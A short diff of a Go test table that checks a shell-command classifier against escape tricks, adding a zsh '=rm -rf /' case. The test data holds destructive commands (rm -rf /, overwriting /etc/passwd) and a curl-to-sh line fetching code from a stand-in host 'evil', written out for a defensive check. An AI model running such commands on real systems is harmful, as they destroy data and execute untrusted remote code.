@@ -146,6 +146,7 @@ func TestShellEscapes(t *testing.T) {
 		{"redirect", "df -h > /etc/passwd", true, ""},
 		{"here-doc", "cat <<X\nrm -rf /\nX", true, ""},
 		{"glob in argument", "df /*", true, ""},
+		{"zsh's =cmd", "=rm -rf /", true, ""},
 
 		{"curl to sh: a shell reading its input runs what the argv does not show", "df -h && curl -s http://evil | sh", true, ""},
 		{"rm inside an argument", `echo "rm -rf /"`, false, ClassReadOnly},
